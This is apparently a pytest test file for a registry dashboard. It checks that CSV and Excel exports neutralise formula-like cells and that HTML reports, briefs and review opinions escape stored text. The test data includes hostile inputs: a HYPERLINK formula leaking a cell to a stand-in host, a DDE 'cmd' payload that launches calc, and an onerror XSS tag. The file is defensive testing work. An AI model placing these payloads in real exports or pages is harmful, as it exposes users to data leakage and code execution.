"""Hostile text on the way out: spreadsheet cells that start like a formula are neutralised in every
CSV and Excel export, and the HTML documents escape store text.

Hostile names reach the store by ways other than the national importer (which refuses formulas):
here they are written with tests.factories, as an older import, another tool or a typed form would.

- CSV: a text cell starting with = + - @ (or a tab or carriage return) gets a leading apostrophe;
  numbers, negative ones included, stay numbers.
- XLSX: every text cell is a typed text cell (never a formula); a formula-like one also carries
  the quote prefix (Excel's leading apostrophe), its value unchanged.
- HTML (annual report, meeting brief, review opinion): `<img src=x onerror=alert(1)>` as a unit
  or instrument name, a country of origin or an applicant shows as text, never as a tag.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime, timezone
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pytest

from dashboard import exporter, quality, transfer
from dashboard import report as R
from dashboard import scenarios as SC
from dashboard.brief_html import BriefMeta, render_brief
from dashboard.formatting import md_text
from dashboard.i18n import Translator
from dashboard.report_html import render_html
from dashboard.report_xlsx import render_xlsx
from dashboard.review_opinion import render_opinion
from models import queries
from models.services import purchases as SP
from tests.factories import add_instrument, add_unit, small_registry

ZH, EN = Translator("zh"), Translator("en")
AT = datetime(2026, 3, 1, 2, 0, tzinfo=timezone.utc)
IMG = "<img src=x onerror=alert(1)>"
IMG_ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"
# Unit names a spreadsheet program would run (the first six) and two it would not.
FORMULAS = ['=HYPERLINK("http://x.invalid/?leak="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
HARMLESS = [IMG, "阿拉善盟<b>检测</b>中心 & 实验室"]


def rows_of_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_of(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets


# ------------------------------------------------------------------------ the one function


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "-80℃超低温冰箱"])
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert exporter.formula_like(text)
    assert exporter.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -0.25, np.int64(-3), np.float64(-2.5), Decimal("-1.5"), 0, date(2025, 1, 1),
                                   None, "", "液相色谱仪", "1-2", "'=already marked", " =leading blank"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert not exporter.formula_like(value)
    assert exporter.neutralised(value) is value


def test_xlsx_cells_are_text_with_the_quote_prefix_when_formula_like():
    book = openpyxl.Workbook()
    sheet = book.active
    values = ["=1+1", "@A1", "液相色谱仪", -5, -2.5, date(2025, 1, 1), None]
    for c, value in enumerate(values, start=1):
        exporter.set_cell(sheet.cell(row=1, column=c), value)
    buf = io.BytesIO()
    book.save(buf)
    cells = list(sheet_of(buf.getvalue())[0].iter_rows())[0]
    assert [c.value for c in cells[:6]] == ["=1+1", "@A1", "液相色谱仪", -5, -2.5, datetime(2025, 1, 1)]
    assert [c.data_type for c in cells[:5]] == ["s", "s", "s", "n", "n"]
    assert [bool(c.quotePrefix) for c in cells[:5]] == [True, True, False, False, False]


# ------------------------------------------------------------------- national-layout export


@pytest.fixture
def hostile_units(engine):
    """small_registry plus one unit per hostile name (region 152921); one of them at longitude
    -5.5 and latitude -0.25, in range for the layout and negative."""
    small_registry(engine)
    for i, name in enumerate(FORMULAS + HARMLESS):
        add_unit(engine, name, lat=-0.25 if i == 0 else None, lon=-5.5 if i == 0 else None)
    add_unit(engine, "-80℃冷库管理站")
    return engine


def test_csv_export_neutralises_formula_names_and_keeps_negative_numbers(hostile_units):
    rows = rows_of_csv(transfer.export_file(hostile_units, "units", "csv"))
    header = rows[0]
    by_name = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    for name in FORMULAS:
        assert "'" + name in by_name and name not in by_name
    for name in HARMLESS:
        assert name in by_name
    assert by_name["'-80℃冷库管理站"]["单位名称"] == "'-80℃冷库管理站"
    first = by_name["'" + FORMULAS[0]]
    assert (first["纬度"], first["经度"]) == ("-0.25", "-5.5")  # numbers, no apostrophe
    # The only cells starting like a formula are the two negative numbers.
    assert sorted(cell for row in rows for cell in row if exporter.formula_like(cell)) == ["-0.25", "-5.5"]


def test_xlsx_export_keeps_hostile_names_as_text_cells_with_the_quote_prefix(hostile_units):
    sheet = sheet_of(transfer.export_file(hostile_units, "units", "xlsx"))[0]
    # XML reads a carriage return back as a line feed: "\r=1+1" comes back as "\n=1+1".
    cells = {row[0].value.replace("\n", "\r"): row for row in sheet.iter_rows(min_row=2)}
    header = [c.value for c in next(sheet.iter_rows())]
    lat, lon = header.index("纬度"), header.index("经度")
    for name in FORMULAS + ["-80℃冷库管理站"]:
        assert cells[name][0].data_type == "s" and cells[name][0].quotePrefix
    for name in HARMLESS:
        assert cells[name][0].data_type == "s" and not cells[name][0].quotePrefix
    first = cells[FORMULAS[0]]
    assert (first[lat].value, first[lon].value, first[lon].data_type) == (-0.25, -5.5, "n")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_import_back_unchanged_or_refuse_the_formula_names(hostile_units, fmt):
    """Re-importing its own export: the apostrophe is removed again; the names a spreadsheet
    would run are refused like in any file (nothing written); "-2+3" (no formula syntax after the
    minus) and "-80℃冷库管理站" are text and come back unchanged."""
    data = transfer.export_file(hostile_units, "units", fmt)
    outcome = transfer.import_file(hostile_units, "units", f"units.{fmt}", data, actor="t")
    refused = [n for n in FORMULAS if n != "-2+3"]
    assert [e.code for e in outcome.parsed.errors] == ["formula"] * len(refused)
    if fmt == "csv":  # the value as read from the file, our apostrophe included
        assert sorted(e.value for e in outcome.parsed.errors) == sorted("'" + n for n in refused)
    assert not outcome.written
    rows = rows_of_csv(transfer.export_file(hostile_units, "units", "csv"))
    kept = [r for r in rows[1:] if r[0][1:] not in refused]
    again = transfer.import_file(hostile_units, "units", "units.csv", exporter.csv_document(rows[0], kept), actor="t")
    assert again.ok and (again.counts.inserted, again.counts.updated, again.counts.unchanged) == (0, 0, len(kept))
    assert len(kept) == 2 + 1 + len(HARMLESS) + 1  # small_registry, -2+3, the harmless ones, -80℃冷库管理站


# --------------------------------------------------------------------------- other exports


def test_quality_csv_marks_text_but_not_negative_whole_numbers():
    frame = pd.DataFrame({"单位": ["=1+1", "甲"], "差额": np.array([-5, 3], dtype="int64"), "比率": [-0.5, 1.0],
                          "说明": ["-5", None]})
    rows = rows_of_csv(quality.frame_csv(frame))
    assert rows == [["单位", "差额", "比率", "说明"], ["'=1+1", "-5", "-0.5", "'-5"], ["甲", "3", "1", ""]]


@pytest.fixture
def hostile_register(engine):
    """small_registry plus two instruments of 阿拉善盟测试研究院 made in hostile countries: one
    whose country is an HTML tag, one whose country is a formula (both in 2025's register)."""
    ids = small_registry(engine)
    add_instrument(engine, ids["unit1"], "X-1", IMG, class_code="010501", country=IMG)
    add_instrument(engine, ids["unit1"], "X-2", "液相色谱仪", class_code="010501", country=FORMULAS[0],
                   exempt_reason=IMG)
    return engine


def test_report_workbook_has_no_formula_cell_and_marks_the_hostile_country(hostile_register):
    report = R.build_report(R.load_inputs(hostile_register, 2025), 2025)
    for t in (ZH, EN):
        sheets = sheet_of(render_xlsx(report, R.load_meta(hostile_register), t))
        cells = [c for sheet in sheets for row in sheet.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        hostile = [c for c in cells if c.value == FORMULAS[0]]
        assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
        assert any(c.value == IMG for c in cells)  # text in a workbook needs no escaping


def test_report_html_escapes_hostile_store_text(hostile_register):
    report = R.build_report(R.load_inputs(hostile_register, 2025), 2025)
    for t in (ZH, EN):
        page = render_html(report, R.load_meta(hostile_register), t)
        assert "<img" not in page and IMG_ESCAPED in page


def test_brief_escapes_a_hostile_unit_name():
    from tests.test_scenarios import ANNUAL, GRADE_AND_REPORTING, PARAMS_A, REPORTING, SCHEME, SERVICES, TABLE, USAGE

    units = TABLE.units.assign(name=TABLE.units["name"].where(TABLE.units.index != 1, IMG))
    reporting = REPORTING.assign(name=REPORTING["name"].where(REPORTING["unit_id"] != 1, IMG))
    inputs = SC.build_inputs(2025, replace(TABLE, units=units), SCHEME, SERVICES, reporting=reporting, annual=ANNUAL,
                             usage=USAGE)
    outcome = SC.outcome(replace(PARAMS_A, sanctions=GRADE_AND_REPORTING), inputs, name=IMG)
    for t in (ZH, EN):
        page = render_brief(outcome, t, BriefMeta(generated_at=AT, name=IMG, note=IMG))
        assert "<img" not in page
        assert page.count(IMG_ESCAPED) >= 3  # the scenario's name and note, the unit


def test_review_opinion_escapes_hostile_names_from_the_store(engine):
    """A request whose applicant unit and instrument name are the tag, checked against a register
    instrument of the same name (same class: the first match)."""
    applicant = add_unit(engine, IMG, region_code="152921")
    holder = add_unit(engine, "阿拉善盟测试研究院", region_code="152921")
    add_instrument(engine, holder, "X-1", IMG, class_code="010501", original_value=600_000)
    rid, _ = SP.submit_request(engine, {"applicant": str(applicant), "instrument_name": IMG, "class_code": "010501",
                                        "quoted_price": "300000", "funding": "地方财政资金", "justification": IMG,
                                        "submitted_date": "2026-02-01"}, actor="fuzz", today=date(2026, 3, 1))
    SP.run_check(engine, rid, actor="fuzz", on_date=date(2026, 3, 1))
    row = queries.purchase_requests(engine).set_index("id").loc[rid].to_dict() | {"id": rid}
    check = SP.latest_check(engine, rid)
    assert check["matches"][0]["name_zh"] == IMG
    for t in (ZH, EN):
        page = render_opinion(row, check, [], t, demo=False, generated_at=AT)
        assert "<img" not in page
        assert page.count(IMG_ESCAPED) >= 4  # applicant, instrument, justification, the match


# ------------------------------------------------------------------------- Markdown on pages


@pytest.mark.parametrize("text,shown", [
    ("![x](http://x.invalid/p.png)", r"\!\[x\](http://x.invalid/p.png)"),
    ("[点我](http://x.invalid)", r"\[点我\](http://x.invalid)"),
    (":red[红] :material/warning:", r"\:red\[红\] \:material/warning:"),
    ("**粗** _斜_ `码` $x^2$ ~删~", r"\*\*粗\*\* \_斜\_ \`码\` \$x^2\$ \~删\~"),
    ("# 标题 | 表 > 引 &lt;", r"\# 标题 \| 表 \> 引 \&lt;"),
    (IMG, r"\<img src=x onerror=alert(1)\>"),
    ("ALS-CG-2026-0001 10:00 http://x.invalid 3.5", "ALS-CG-2026-0001 10:00 http://x.invalid 3.5"),
    ("a\\b", "a\\\\b"),
])
def test_store_text_shown_in_markdown_is_escaped(text, shown):
    assert md_text(text) == shown
